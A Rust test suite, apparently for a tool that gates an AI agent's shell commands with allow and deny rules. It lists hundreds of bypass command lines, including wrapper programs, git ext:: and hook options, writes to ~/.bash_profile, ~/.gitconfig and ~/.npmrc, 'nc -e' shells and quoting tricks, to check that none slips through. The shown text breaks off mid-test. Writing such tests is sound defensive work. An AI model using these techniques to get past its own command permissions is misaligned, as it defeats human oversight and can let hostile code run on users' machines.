//! Programs that run other programs through their arguments: a rule for the program is no rule for what it would run.

use super::{decide, policy};
use toolpost_core::policy::{Effect, Layer, Origin, Policy, Profile, Rule};
use toolpost_tools::shell::line;

/// Each is judged under a rule for its own program, and under the rules that its inner shell text would need.
#[rustfmt::skip]
const RUN_ANOTHER: &[&str] = &[
    // git
    "git merge-index ./ev.sh -a", "git merge-index -o ./ev.sh -a", "git -c core.pager=./ev.sh log", "git -c alias.x='!./ev.sh' x", "git --exec-path=. status", "git --config-env=core.pager=X log",
    "git -C . merge-index ./ev.sh -a", "git -C . -c core.fsmonitor=./ev.sh status", "git --git-dir=evil.git log", "git --git-dir evil.git status", "git --work-tree=. log", "git -p log", "git --paginate log", "git --namespace=x log", "git --attr-source=x log",
    "git fetch --upload-pack=./ev.sh .", "git fetch --upload-p ./ev.sh .", "git pull --upload-pack ./ev.sh . x", "git push --receive-pack=./ev.sh . x", "git push --exec=./ev.sh . x", "git push --rec=./ev.sh .", "git ls-remote --upload-pack=./ev.sh .",
    "git ls-remote --exec=./ev.sh .", "git clone -u ./ev.sh . x", "git clone -qu ./ev.sh . x", "git clone --upload-pack=./ev.sh . x", "git clone -c core.fsmonitor=./ev.sh . x", "git clone --config core.pager=x . x", "git clone --template=evil . x",
    "git init --template=evil", "git clone ext::./ev.sh x", "git clone 'ext::sh -c evil' x", "git fetch ext::./ev.sh", "git push ext::./ev.sh", "git pull ext::./ev.sh x", "git remote add x ext::./ev.sh", "git clone foo::bar x", "git ls-remote fd::7",
    "git submodule add ext::./ev.sh", "git archive --remote=. --exec=./ev.sh HEAD", "git fetch-pack --exec=./ev.sh . x", "git fetch-pack --upload-pack=./ev.sh . x", "git send-pack --receive-pack=./ev.sh . x", "git send-pack --exec=./ev.sh .",
    "git grep -O./ev.sh x", "git grep -nO./ev.sh x", "git grep --open-files-in-pager=./ev.sh x", "git grep --open=./ev.sh x", "git diff --ext-diff", "git log -p --ext-diff", "git show --ext-di", "git difftool -x ./ev.sh", "git difftool --extcmd=./ev.sh",
    "git difftool --tool=x", "git mergetool --tool=x", "git mergetool", "git rebase --exec ./ev.sh", "git rebase -x ./ev.sh HEAD~1", "git rebase -ix ./ev.sh", "git rebase --ex ./ev.sh", "git bisect run ./ev.sh", "git bisect view ./ev.sh", "git bisect visualize x",
    "git bisect replay x", "git submodule foreach ./ev.sh", "git submodule --quiet foreach ./ev.sh", "git submodule foreach --recursive ./ev.sh", "git filter-branch --tree-filter ./ev.sh", "git filter-branch", "git for-each-repo --config=x ./ev.sh",
    "git daemon --access-hook=./ev.sh", "git hook run x", "git send-email --sendmail-cmd=./ev.sh x", "git send-email --smtp-server=./ev.sh x", "git imap-send", "git instaweb --httpd=./ev.sh", "git web--browse -b x", "git help -w x", "git credential fill",
    "git credential-store get", "git upload-pack .", "git receive-pack .", "git shell -c x", "git http-backend", "git fast-import", "git p4 sync", "git svn fetch", "git cvsimport", "git gui", "git citool", "git maintenance start", "git remote-ext x ./ev.sh",
    "git remote-fd x", "git mergetool--lib", "git sh-setup", "git merge -s evil x", "git merge --strategy=evil x", "git merge --strategy evil x", "git merge -sevil x", "git pull -s evil", "git rebase -s evil", "git unknown-program", "git ./ev.sh", "git config -e", "git config --edit",
    "git config core.pager ./ev.sh", "git config --local core.pager ./ev.sh", "git config --global alias.x '!./ev.sh'", "git config --file x a.b c", "git config --add core.hooksPath evil", "git config set core.pager x", "git fsmonitor--daemon start", "git submodule--helper foreach x",
    "git lfs filter-process", "git scalar register", "git log $x", "git $x", "git -C $x log", "git log \"$x\"", "git diff {--ext-diff,x}", "git merge-index \"$x\" -a",
    "git config --show-scope core.fsmonitor ./ev.sh", "git config core.pager list", "git config core.pager --list", "git config --show-origin --add core.pager get", "git config --name-only core.pager ./ev.sh", "git config core.editor -l",
    "git merge -qs foo HEAD", "git merge -qsfoo HEAD", "git pull -qs foo", "git rebase -ms foo", "git rebase -qsfoo x", "git merge \"$x\"", "git cherry-pick $x", "git ls-remote foo://x", "git clone foo://x y", "git fetch EXT::sh", "git archive --remote=ext::sh HEAD", "git archive --remote=foo://x HEAD",
    "git push --repo=ext::sh", "git remote add x foo+bar://y", "git submodule add foo://x", "git-merge-index ./ev.sh -a", "git-fetch --upload-pack=./ev.sh .", "git-foo x",
    // Variants and versions of known programs.
    "vim.basic -es -c '!touch x'", "vim.tiny -c '!touch x'", "vim.nox x", "vim.gtk3 x", "nc.openbsd -e ./ev.sh x", "gawk-5.1 'BEGIN { system(\"./ev.sh\") }'", "original-awk 'BEGIN { system(\"./ev.sh\") }'", "bash5 -c ./ev.sh", "bash5 -c ls", "tar-1.35 --to-command=./ev.sh -xf x", "gcc-12 -wrapper ./ev.sh x.c", "env.distrib ls", "gdb-12 x",
    "tar -cf 'host:file' x", "tar cf host:file x", "tar --file=host:file -x", "tar -xfhost:file", "gtar -xf user@host:file", "cpio -iF host:file", "cargo run --config x -- y", "cargo --config x run -- y", "make -j$(nproc)$x", "make -j\"$x\"", "make -f$(nproc)", "make -j$(nproc) SHELL=./ev.sh",
    "awk '{ print > \"x\" }' y", "awk '{ print(1) > \"x\" }' y", "awk '{ print \"(\" > \"x\" }' y", "awk '{ if ($1 > 2) print > \"x\" }' y", "awk '/(/ { print > \"x\" }' y", "awk '{ # (\nprint > \"x\" }' y", "awk '} ( { print > \"x\" }' y", "awk '{ (print >> \"x\") }' y",
    // Programs that take a command.
    "find . -exec ./ev.sh {} +", "find . -execdir ./ev.sh \\;", "find . -ok ./ev.sh \\;", "find . -okdir ./ev.sh {} \\;", "find . -exec ls \"$x\" -exec ./ev.sh {} \\;", "find . -files0-from x", "xargs ./ev.sh", "xargs -I X -n 20 find .", "xargs --replace ./ev.sh", "xargs sh -c",
    "env ./ev.sh", "env -i ./ev.sh", "env -S ./ev.sh", "env --split-string=./ev.sh", "env -C evil ./run", "env -vS ./ev.sh", "timeout 5 ./ev.sh", "timeout -k 1 5 ./ev.sh", "nice ./ev.sh", "nohup ./ev.sh", "stdbuf -oL ./ev.sh", "setsid -w ./ev.sh", "ionice -c 2 ./ev.sh", "time ./ev.sh",
    "flock x ./ev.sh", "flock x -c ./ev.sh", "flock -n x ./ev.sh", "watch ./ev.sh", "watch -x ./ev.sh", "parallel ./ev.sh ::: a", "script -c ./ev.sh", "script -qc ./ev.sh x", "busybox sh ./ev.sh", "busybox touch x", "toybox touch x", "coreutils --coreutils-prog=touch x",
    "command ./ev.sh", "builtin eval ./ev.sh", "exec ./ev.sh", "coproc ./ev.sh", "nsenter -t 1 ./ev.sh", "unshare ./ev.sh", "chroot . ./ev.sh", "strace ./ev.sh", "gdb -ex 'shell ./ev.sh'", "perf record ./ev.sh", "taskset 1 ./ev.sh", "setarch x86_64 ./ev.sh", "linux64 ./ev.sh",
    "su -c ./ev.sh", "sudo ./ev.sh", "doas ./ev.sh", "sg x ./ev.sh", "runuser -c ./ev.sh", "systemd-run ./ev.sh", "tmux new ./ev.sh", "screen -dm ./ev.sh", "expect -c 'spawn ./ev.sh'", "unbuffer ./ev.sh", "entr ./ev.sh", "hyperfine ./ev.sh", "valgrind ./ev.sh", "fakeroot ./ev.sh",
    "ld-linux-x86-64.so.2 ./ev.sh", "/lib64/ld-linux-x86-64.so.2 ./ev.sh", "start-stop-daemon -S -x ./ev.sh", "run-parts evil", "capsh -- -c ./ev.sh", "proxychains ./ev.sh", "direnv exec . ./ev.sh", "chronic ./ev.sh", "nodemon --exec ./ev.sh", "sshpass -p x ./ev.sh", "ssh-agent ./ev.sh", "dbus-run-session ./ev.sh",
    "uv run ./ev.sh", "poetry run ./ev.sh", "pipenv run ./ev.sh", "bundle exec ./ev.sh", "npm exec ./ev.sh", "npm exec -- ./ev.sh", "pnpm exec ./ev.sh", "yarn exec ./ev.sh", "rustup run stable ./ev.sh", "mise exec -- ./ev.sh", "conda run ./ev.sh", "npx -c ./ev.sh", "npm exec -c ./ev.sh", "nix-shell --run ./ev.sh", "npm explore x -- ./ev.sh", "npm --silent exec ./ev.sh", "uv --quiet run ./ev.sh", "uv --directory evil run ./ev.sh", "npm -g config set script-shell ./ev.sh", "npm --silent set script-shell=./ev.sh", "cargo +nightly watch -s ./ev.sh", "corepack yarn exec ./ev.sh", "lerna exec -- ./ev.sh", "mpirun ./ev.sh", "qemu-x86_64 ./ev.sh", "npm config set script-shell ./ev.sh", "npm set script-shell=./ev.sh", "yarn config set x y", "gh alias set x y", "gh config set pager ./ev.sh", "go env -w CC=./ev.sh", "cargo watch -s ./ev.sh", "gh repo clone a/b -- --upload-pack=./ev.sh",
    // Programs with an option or a language of their own that runs one.
    "tar -cf x y --checkpoint-action=exec=./ev.sh", "tar xf x --to-command=./ev.sh", "tar cf x -I ./ev.sh y", "tar xf x --use-compress-program ./ev.sh", "tar -F ./ev.sh -cf x y", "tar --info-script=./ev.sh -cf x y", "tar cf x -T list", "tar cf x --files-from=list", "tar --rsh-command=./ev.sh -xf h:x",
    "sort --compress-program=./ev.sh x", "sort --compress-prog ./ev.sh x", "split --filter=./ev.sh x", "awk 'BEGIN{system(\"./ev.sh\")}'", "awk '{print | \"./ev.sh\"}' x", "awk -f x.awk", "gawk -e 'BEGIN{system(\"x\")}'", "awk '\"x\" | getline'", "sed '1e ./ev.sh' x", "sed s/a/b/e x", "sed -f x.sed y", "sed 's/a/b/w x' y", "sed -n '/x/w y' z",
    "vim -c ':!./ev.sh'", "vi x", "nvim -es x", "ed x", "emacs --eval x", "man -P ./ev.sh ls", "man --pager=./ev.sh ls", "man -H./ev.sh ls", "less '+!./ev.sh' x", "more '+!./ev.sh' x", "make -f evil.mk", "make --file=evil.mk", "make -C evil", "make SHELL=./ev.sh", "make CC=./ev.sh", "make --eval='x:;./ev.sh' x", "make -I evil",
    "ssh -o ProxyCommand=./ev.sh h", "ssh -oProxyCommand=./ev.sh h", "ssh -F x h", "scp -S ./ev.sh a h:b", "sftp -D ./ev.sh", "rsync -e ./ev.sh a h:b", "rsync --rsh=./ev.sh a h:b", "rsync -ave ./ev.sh a b", "rsync --rsync-path=./ev.sh a b", "rg --pre ./ev.sh x", "rg --pre=./ev.sh x", "fd -x ./ev.sh", "fd --exec ./ev.sh", "fd -X ./ev.sh",
    "bat --pager=./ev.sh x", "ag --pager ./ev.sh x", "cargo --config 'build.rustc=\"./ev.sh\"' build", "cargo build --config x", "go build -toolexec ./ev.sh", "go test -exec ./ev.sh", "go vet -vettool=./ev.sh", "gcc -wrapper ./ev.sh x.c", "gcc -B evil x.c", "cc -specs=x y.c", "clang -fplugin=x y.c", "rustc -C linker=./ev.sh x.rs", "zip x y -T -TT ./ev.sh",
    "nc -e ./ev.sh h 1", "ncat --exec ./ev.sh h 1", "socat - EXEC:./ev.sh", "tcpdump -z ./ev.sh", "psql -c '\\! ./ev.sh'", "sqlite3 x '.shell ./ev.sh'", "sqlite3 x '.system ./ev.sh'", "mysql -e '\\! ./ev.sh'", "curl -K x", "wget --use-askpass=./ev.sh u", "wget -e x u", "install --strip-program=./ev.sh -s a b", "npm test --script-shell=./ev.sh", "npm --node-options=x test",
    "zip -qTT ./ev.sh x.zip y -T", "zip -qT \"x';./ev.sh;'.zip\" y", "zip -rTq x y", "zip --unzip ./ev.sh -T x y", "gcc -Wl,-plugin,./ev.so x.c", "gcc -Wl,-rpath,x,--plug,./ev.so x.c", "gcc -Xlinker -plugin -Xlinker ./ev.so x.c", "gcc -Wl,@options x.c", "x86_64-linux-gnu-gcc-12 -Wl,-plugin,./ev.so x.c", "gcc --prefix=evil x.c", "gcc --specs=x y.c",
    "gcc -iplugindir=. x.c", "g++ -fmodule-mapper='|./ev.sh' x.cc", "clang --ld-path=./ev.sh x.c", "clang -fuse-ld=./ev.sh x.c", "clang -fpass-plugin=./ev.so x.c", "clang -mllvm -load=./ev.so x.c", "clang --config=x y.c", "clang --gcc-toolchain=evil x.c", "c99 @options", "ld -plugin ./ev.so x.o", "ld --plug=./ev.so x.o", "ld.gold --plugin ./ev.so x.o", "mold -run ./ev.sh", "ld @options",
    "nm --plugin ./ev.so x", "nm --plug=./ev.so x", "ar --plugin ./ev.so t x", "llvm-nm --plugin ./ev.so x", "ranlib --plugin ./ev.so x", "objdump --plugin=./ev.so x", "strip --plugin=./ev.so x", "objcopy @options", "rustc --extern x=./ev.so x.rs", "rustc -L . x.rs", "rustc --sysroot evil x.rs", "javac -J-javaagent:ev.jar X.java", "javac -processor Ev X.java", "protoc --plugin=./ev.sh x.proto",
    "npm docs . --browser=./ev.sh", "npm edit x --editor=./ev.sh", "npm help x --viewer=./ev.sh", "npm i --git=./ev.sh git+ssh://x/y", "dc -e '!./ev.sh'", "m4 x", "cmake -E env ./ev.sh", "cmake -P x.cmake", "cmake -DCMAKE_C_COMPILER_LAUNCHER=./ev.sh .", "ctest --build-and-test a b", "pylint --init-hook='import x' y", "ssh -I ./ev.so h", "ssh-keygen -D ./ev.so", "ssh-add -s ./ev.so", "openssl enc -engine ./ev.so", "openssl list -provider-path . -provider x", "openssl req -config x",
    "sqlite3 x .excel", "sqlite3 -init f x", "mysql --pager=./ev.sh", "mysql -e 'pager ./ev.sh'", "cargo rustc -- -C linker=./ev.sh", "cargo clippy -- -Clinker=./ev.sh", "pandoc --filter ./ev.sh x", "pandoc -F ./ev.sh x", "diff3 --diff-program=./ev.sh a b c", "cpio --rsh-command=./ev.sh -iF h:x", "aria2c --on-download-complete=./ev.sh u", "nmap --script ./ev.nse h", "kubectl --kubeconfig=x get pods", "helm install x --post-renderer ./ev.sh",
    "apt-get -o APT::Update::Pre-Invoke::=./ev.sh update", "dpkg --pre-invoke=./ev.sh -i x", "rpm --pipe=./ev.sh -q x", "rpm -E '%(./ev.sh)'", "pacman --hookdir evil -S x", "ninja -f evil.ninja", "gradle -I evil.gradle", "mvn -f evil.xml test", "just --shell ./ev.sh x", "gh extension exec x", "git clone -- 'ext::sh -c evil' d", "git ls-remote -- foo::bar", "git fetch -- ext::sh",
    // Shells that read what they run.
    "bash", "sh", "dash", "bash -s", "bash -", "bash -i", "bash /dev/stdin", "bash /dev/fd/3", "sh /proc/self/fd/0", "bash <(ls)", "bash --rcfile x", "bash --init-file x -i", "bash -O extglob -c ls", "zsh -c ls", "ksh x", "fish -c ls", "csh x", "rbash -c ls", "source /dev/stdin", ". /dev/fd/0", "source <(ls)", "source $x", "bash $x", "bash -c $x",
];

fn rule_for(line: &str) -> String {
    format!("{} *", line.split(' ').next().unwrap())
}

#[test]
fn guarantee_18_a_rule_for_a_program_is_none_for_what_it_runs() {
    let passed: Vec<String> = RUN_ANOTHER
        .iter()
        .flat_map(|line| [(*line).to_owned(), format!("ls; {line}"), format!("/usr/bin/{line}")])
        .filter(|line| {
            decide(
                &policy(&[&rule_for(line), "ls *", "wc *", &rule_for(line.trim_start_matches("ls; "))]),
                line,
            ) == Effect::Allow
        })
        .map(|line| format!("{line:?}: {:?}", line::accesses(&line)))
        .collect();
    assert!(passed.is_empty(), "{} of {}:\n{}", passed.len(), RUN_ANOTHER.len(), passed.join("\n"));
    println!(
        "measure: guarantee 18: {} ways to run a program through another, each in 3 places, 0 passed",
        RUN_ANOTHER.len()
    );
}

/// What these programs do all day passes the same rules.
#[rustfmt::skip]
const ORDINARY: &[&str] = &[
    "git status", "git log --oneline -5", "git diff HEAD~1 -- src", "git add -A", "git commit -m 'feat: x::y'", "git commit -m \"$(cat x)\"", "git fetch origin", "git pull --rebase", "git push -u origin main", "git clone https://example.com/x.git",
    "git clone git@example.com:a/b.git", "git rebase origin/main", "git rebase --onto a b", "git merge --no-ff x", "git merge -s ours x", "git bisect start", "git bisect good v1", "git submodule update --init --recursive", "git submodule status", "git stash list", "git grep -n x",
    "git show HEAD", "git blame src/x.rs", "git config --get user.name", "git config user.name", "git config --list", "git config --global --get user.email", "git worktree add ../x", "git archive -o out.tar HEAD", "git remote -v", "git remote add origin https://example.com/x", "git lfs pull",
    "git -C sub status", "git --no-pager log", "git tag -a v1 -m x", "git cherry-pick abc", "git reset --hard HEAD~1", "git clean -fd", "git ls-files '*.rs'", "git rev-parse --show-toplevel", "git describe --tags", "git format-patch -1 -o out", "git apply x.patch", "git checkout -b x",
    "find . -name '*.rs' -type f", "find . -name x -delete", "tar -czf x.tgz src", "tar xf x.tar", "sort -u x", "split -l 10 x", "awk '{print $1}' x", "awk -F: '{print $2}' x", "sed -n 1,5p x", "sed -i 's/a/b/' x", "sed 's/[^a-z]*/x/g' y", "sed -i '/x/a more' y", "make test", "make -j4",
    "rsync -av a b", "rg -n x src", "fd x", "cargo build --release", "go test ./...", "gcc -O2 -o x x.c", "zip -r x.zip y", "psql -c 'select 1'", "sqlite3 x 'select 1'", "curl -s https://example.com", "npm test", "npm run build", "npm config get registry", "npm config list", "npm --silent test", "uv --quiet sync", "cargo +nightly fmt", "gh pr list", "go env GOPATH", "pip config list", "bash x.sh", "bash scripts/x.sh --y", "source venv/bin/activate",
    "git config --show-origin --list", "git config --show-scope --get user.name", "git config list", "git config --global get user.name", "git config -f x --list", "git merge -q x", "git merge -qs ours x", "git merge -ms x", "git ls-remote https://example.com/x", "git clone ssh://git@example.com/x", "git clone file:///x y",
    "tar --force-local -cf a:b x", "tar -cf ./a:b x", "tar -cf out/a:b x", "cargo run --bin x -- --config y", "cargo test x -- -Zunstable-options", "npm run build -- --prefix x", "awk '{ if ($3 > 10) print }' x", "awk '$3 > 10 { print $1 }' x", "awk '$3 > 10' x", "awk '{ if (($1 > 2) && $2 != \"(>\") n++ } END { print n }' x",
    "rm -f ./*.log", "rm -f build/*.log", "rm -f -- *.log", "rm -rf target/x*", "git-log x",
    "bash -n x.sh", "less x", "man ls", "rustc x.rs", "gcc -Wl,-rpath,/x -Wl,--gc-sections,-Bstatic -fuse-ld=lld x.c", "gcc -c -fPIC -Iinclude -DX=1 -Wall x.c", "clang++ -std=c++20 -lpthread x.cc", "x86_64-linux-gnu-gcc x.c", "nm -C x.o", "nm --print-size x.o", "ar rcs x.a x.o", "objdump -d x", "strip -s x", "ld -r -o x.o a.o -lpthread",
    "zip -qr x.zip y", "unzip -t x.zip", "cmake -S . -B build -DCMAKE_BUILD_TYPE=Release", "cmake --build build", "ctest --output-on-failure", "openssl x509 -in x -noout -text", "openssl rand -hex 8", "mysql -e 'select 1'", "npm install -g x", "npm --version", "cargo clippy -- -D warnings", "rustc --edition 2021 -O x.rs", "javac -d out X.java", "pandoc x.md -o x.html", "ninja -j4", "gradle test", "mvn -q test", "just test", "apt-get install -y x", "dpkg -l", "rpm -qa", "git diff -- a::b",
];

#[test]
fn what_such_programs_do_all_day_passes() {
    let refused: Vec<String> = ORDINARY
        .iter()
        .filter(|line| decide(&policy(&[&rule_for(line), "cat *"]), line) != Effect::Allow)
        .map(|line| format!("{line:?}: {:?}", line::read(line)))
        .collect();
    assert!(refused.is_empty(), "{} of {}:\n{}", refused.len(), ORDINARY.len(), refused.join("\n"));
}

/// The examples of allow rules that were turned into any command, each under the rules that it was tried with.
#[test]
fn guarantee_18_examples_of_narrow_rules() {
    for (rules, folder, line) in [
        (&["ls *"][..], "", "ls; echo 'touch pwned' > ~/.bash_profile; bash -lc true"),
        (&["ls *", "bash -lc true"], "", "ls; echo 'touch pwned' > ~/.bash_profile; bash -lc true"),
        (&["ls *", "echo *"], "", "ls; echo 'touch pwned' > \"$HOME/.bash_profile\"; bash -lc ls"),
        (&["git status*"], "", "echo '[core] fsmonitor=./evil' > ~/.gitconfig; git status"),
        (
            &["git status*"],
            "",
            "printf '[core]\\nfsmonitor=./evil' >> ~/.config/git/config && git status --short",
        ),
        (&["npm test"], "", "echo script-shell=./evil > ~/.npmrc; npm test"),
        (&["npm test"], "", "cd ~ && echo script-shell=./evil > .npmrc; npm test"),
        (&["./run *"], "evil", "./run x"),
        (&["./run *"], "", "cd evil && ./run x"),
        (&["./run *"], "", "cd evil\n./run x"),
        (&["./run *"], "sub/../evil", "./run x"),
        (&["git *"], "", "git merge-index ./ev.sh -a"),
        (&["make *", "nproc", "ls *", "echo *"], "", "nproc() { echo 4 -f evil; }; make -j$(nproc) test"),
        (
            &["make *", "nproc", "ls *", "echo *"],
            "",
            "nproc() { echo 4 -f evil; }; eval 'make -j$(nproc) test'",
        ),
        (&["make *", "nproc *", "echo *"], "", "make -j$(nproc; echo -f evil) test"),
        (&["git *"], "", "TERM=xterm git commit"),
        (&["git *"], "", "export TERM=xterm; git commit"),
        (&["git *"], "", "env TERM=xterm git commit"),
        (&["find *"], "", "find . ''{},-exec,touch,pwned,\\;}"),
        (&["find *", "echo *"], "", "echo -exec touch pwned \\; | xargs -I X -n 20 find ."),
    ] {
        let accesses = line::accesses_in(folder, line);
        let request = toolpost_core::policy::Request { tool: "bash", accesses: &accesses };
        assert_ne!(policy(rules).decide(&request).effect(), Effect::Allow, "{line} {accesses:?}");
    }
}

/// The examples of denials that were walked around.
#[test]
fn guarantee_18_examples_of_denials() {
    for (action, rule, folder, line) in [
        ("bash", "touch *", "", "/bin/../bin/touch pwned"),
        ("bash", "touch *", "", "cd /usr/bin && ./touch pwned"),
        ("bash", "touch *", "", "cd /usr && bin/touch pwned"),
        ("bash", "touch *", "", "echo touch pwned | bash"),
        ("bash", "touch *", "", "bash <<< 'touch pwned'"),
        ("bash", "touch *", "", "\\touch pwned"),
        ("bash", "touch *", "", "\"to\"uch pwned"),
        ("bash", "touch *", "", "$'touch' pwned"),
        ("bash", "touch *", "", "command touch pwned"),
        ("bash", "touch *", "", "busybox touch pwned"),
        ("bash", "touch *", "", "{touch,pwned}"),
        ("bash", "touch *", "", "/proc/self/root/bin/touch pwned"),
        ("bash", "touch *", "", "/lib64/ld-linux-x86-64.so.2 /bin/touch pwned"),
        ("bash", "touch *", "", "x=touch; $x pwned"),
        ("bash", "touch *", "", "find . -maxdepth 0 -exec touch pwned +"),
        ("bash", "git push *", "", "git -C . push"),
        ("bash", "git push *", "", "git --no-pager -C . push origin"),
        ("bash", "git push *", "", "git -c a=b push"),
        ("bash", "git push *", "", "git --git-dir=.git push"),
        ("bash", "git push *", "", "npm exec git push"),
        ("bash", "npm publish*", "", "npm --silent publish"),
        ("bash", "curl *evil*", "", "x=evil.com; curl \"$x\""),
        ("bash", "curl *evil*", "", "curl 'http://evil.com'"),
        ("bash", "bash *", "", "bash -c ls"),
        ("bash", "eval *", "", "eval ls"),
        ("bash", "env *", "", "env ls"),
        ("bash", "xargs *", "", "ls | xargs wc"),
        ("bash", "./evil/run *", "evil", "./run x"),
        ("bash", "./evil/run *", "", "cd evil; ./run x"),
        ("bash", "evil/run *", "", "./evil/../evil/run x"),
        ("bash", "git push *", "", "/usr/lib/git-core/git-push origin"),
        ("bash", "git push *", "", "git-push origin"),
        ("bash", "git push *", "", "cd /usr/lib/git-core && ./git-push origin"),
        ("bash", "touch *", "", "vim.basic -es -c '!touch x'"),
        ("bash", "vim *", "", "vim.tiny x"),
        ("bash", "python3 *", "", "python3.11 x.py"),
        ("bash", "perl *", "", "/usr/bin/perl5.36 x.pl"),
        ("bash", "awk *", "", "awk-5.1 x"),
        ("bash", "curl *", "", "mise exec node@20 -- curl x"),
        ("bash", "curl *", "", "hatch run test:curl"),
        ("bash", "curl *", "", "uvx curl"),
        ("bash", "curl *", "", "npx curl"),
        ("bash", "curl *", "", "npx curl@latest x"),
        ("bash", "curl *", "", "bunx curl"),
        ("bash", "curl *", "", "cmake -E env curl"),
        ("bash", "curl *", "", "cmake -E env A=1 /usr/bin/curl x"),
        ("bash", "curl *", "", "tox exec -- curl"),
        ("bash", "curl *", "", "just --command curl"),
        ("bash", "curl *", "", "tool --command=curl x"),
        ("bash", "curl *", "", "runcon -t x curl x"),
        ("bash", "curl *", "", "ip netns exec n curl x"),
        ("bash", "curl *", "", "aws-vault exec p -- curl x"),
        ("bash", "curl *", "", "sops exec-env f 'curl x'"),
        ("bash", "curl *", "", "sops exec-env f 'cd y;curl x'"),
        ("bash", "curl *", "", "sops exec-env f \"sh -c 'curl x'\""),
        ("bash", "curl *", "", "nvm exec 18 curl"),
        ("bash", "curl *", "", "genv curl"),
        ("bash", "curl *", "", "arch -x86_64 curl"),
        ("bash", "curl *", "", "yarn curl x"),
        ("bash", "curl *", "", "docker run x curl y"),
        ("bash", "curl *", "", "c=curl; tool exec -- $c x"),
        ("bash", "curl *", "", "./wrap curl x"),
        ("bash", "curl *", "", "python3 -m wrap curl x"),
        ("bash", "git push *", "", "genv git -C . push"),
        ("exec", "touch *", "", "/bin/touch pwned"),
        ("exec", "eval *", "", "eval ls"),
        ("Bash", "touch *", "", "touch pwned"),
        ("run_shell_command", "touch *", "", "touch pwned"),
        ("exec_command", "touch *", "", "touch pwned"),
        ("shell", "touch *", "", "touch pwned"),
    ] {
        let origin = Origin::new(Layer::User, "rules.toml", 1);
        let rule = Rule::new(Effect::Deny, action, rule, origin).unwrap();
        let policy = Policy::profile(Profile::Privileged)
            .with_names(&crate::names())
            .with_rules(Layer::User, vec![rule]);
        let accesses = line::accesses_in(folder, line);
        let request = toolpost_core::policy::Request { tool: "bash", accesses: &accesses };
        assert_eq!(policy.decide(&request).effect(), Effect::Deny, "{line} {accesses:?}");
    }
}

/// A rule that denies is about a command, not about its name as a value of well-known programs.
#[test]
fn a_denial_leaves_other_commands_alone() {
    for (rule, line) in [
        ("curl *", "apt-get install curl"),
        ("curl *", "which curl"),
        ("curl *", "grep -rn 'curl x' src"),
        ("curl *", "timeout 5 grep curl x"),
        ("curl *", "git commit -m 'use curl x'"),
        ("curl *", "echo curl x"),
        ("curl *", "gh pr create --body 'run curl x'"),
        ("curl *", "find . -name curl"),
        ("curl *", "cargo test curl"),
        ("rm *", "git rm x"),
        ("rm *", "docker rm x"),
        ("rm *", "for f in *.py; do python3 check.py \"$f\"; done"),
        ("rm *", "for f in *.mp4; do ffmpeg -i \"$f\" x; done"),
        ("rm *", "make -j$(nproc) test"),
        ("git push *", "git stash push"),
        ("git push *", "tool push git"),
        ("vim *", "cat vim.basic"),
    ] {
        let origin = Origin::new(Layer::User, "rules.toml", 1);
        let rule = Rule::new(Effect::Deny, "bash", rule, origin).unwrap();
        let policy = Policy::profile(Profile::Privileged)
            .with_names(&crate::names())
            .with_rules(Layer::User, vec![rule]);
        assert_eq!(decide(&policy, line), Effect::Allow, "{line} {:?}", line::read(line));
    }
    // No rule that allows gets any of this.
    for (rule, line) in [
        ("curl *", "uvx curl x"),
        ("git push *", "git-push x"),
        ("python3 *", "python3.11 x"),
        ("vim *", "vim.basic x"),
    ] {
        assert_ne!(decide(&policy(&[rule]), line), Effect::Allow, "{line}");
    }
}

/// A long line of words that all could be the denied command is judged in time that grows with its length.
#[test]
fn guarantee_23_a_denial_is_looked_for_in_bounded_time() {
    let origin = Origin::new(Layer::User, "rules.toml", 1);
    let rule = Rule::new(Effect::Deny, "bash", "curl *a*b*c*d z", origin).unwrap();
    let policy =
        Policy::profile(Profile::Privileged).with_names(&crate::names()).with_rules(Layer::User, vec![rule]);
    for word in ["curl ", "curl -x ", "'curl;curl' ", "-a=curl@1 ", "a/b/c/curl "] {
        let line = format!("tool {}", word.repeat(90_000 / word.len()));
        let started = super::processor_time();
        assert_eq!(decide(&policy, &line), Effect::Allow, "{word}");
        let took = super::processor_time() - started;
        println!("{took:?} {word:?}");
        assert!(took.as_millis() < 3_000, "{took:?} for {word:?}");
    }
}

/// A denial of a line that cannot be told says why it cannot, in the short form and in the long one.
#[test]
fn a_denial_says_why_a_line_cannot_be_told() {
    for (line, why) in [
        ("eval \"$x\"", "what it runs is unknown: "),
        ("$x y", "the name of a command is computed"),
        ("tar --to-command=x -xf y", "an option runs another command"),
        ("TERM=xterm git commit", "a variable is set that may change what runs"),
    ] {
        let accesses = line::accesses(line);
        let request = toolpost_core::policy::Request { tool: "bash", accesses: &accesses };
        let policy = policy(&["git *"]);
        let sentence = policy.decide(&request).sentence();
        assert!(sentence.contains(why), "{line}: {sentence}");
        let explained = policy.explain(&request).to_string();
        assert!(explained.contains(why), "{line}: {explained}");
    }
}

/// What cannot be told is denied by every rule that could apply, wherever it stands among others.
#[test]
fn guarantee_40_what_cannot_be_told_meets_every_denial() {
    let origin = || Origin::new(Layer::User, "rules.toml", 1);
    let rule = |effect, text| Rule::new(effect, "bash", text, origin()).unwrap();
    for (rules, expected) in [
        (vec![(Effect::Deny, "rm *")], Effect::Deny),
        (vec![(Effect::Ask, "git *"), (Effect::Deny, "rm *")], Effect::Deny),
        (vec![(Effect::Allow, "rm x"), (Effect::Deny, "rm *")], Effect::Deny),
        (vec![(Effect::Ask, "git *")], Effect::Ask),
        (vec![(Effect::Allow, "*"), (Effect::Deny, "rm *")], Effect::Allow),
        (vec![(Effect::Ask, "git *"), (Effect::Deny, "git push *")], Effect::Ask),
    ] {
        let rules: Vec<Rule> = rules.into_iter().map(|(effect, text)| rule(effect, text)).collect();
        let policy = Policy::profile(Profile::Privileged)
            .with_names(&crate::names())
            .with_rules(Layer::User, rules.clone());
        assert_eq!(decide(&policy, "eval \"$x\""), expected, "{rules:?}");
    }
    for rules in [&["*a*"][..], &["eval *", "$x", "ls *"]] {
        assert_ne!(decide(&policy(rules), "eval \"$x\""), Effect::Allow, "{rules:?}");
    }
}

/// The same examples as calls of the tool: each is refused before anything runs, and nothing came of it.
#[test]
fn guarantee_18_examples_as_calls() {
    use crate::bash::{executor, ground, session};
    use serde_json::json;
    use std::os::unix::fs::PermissionsExt;
    let ground = ground();
    let root = ground.path();
    for name in ["ev.sh", "run", "evil/run"] {
        std::fs::create_dir_all(root.join("evil")).unwrap();
        std::fs::write(root.join(name), "#!/bin/sh\ntouch pwned\n").unwrap();
        std::fs::set_permissions(root.join(name), std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    std::fs::write(root.join("run"), "#!/bin/sh\necho ran\n").unwrap();
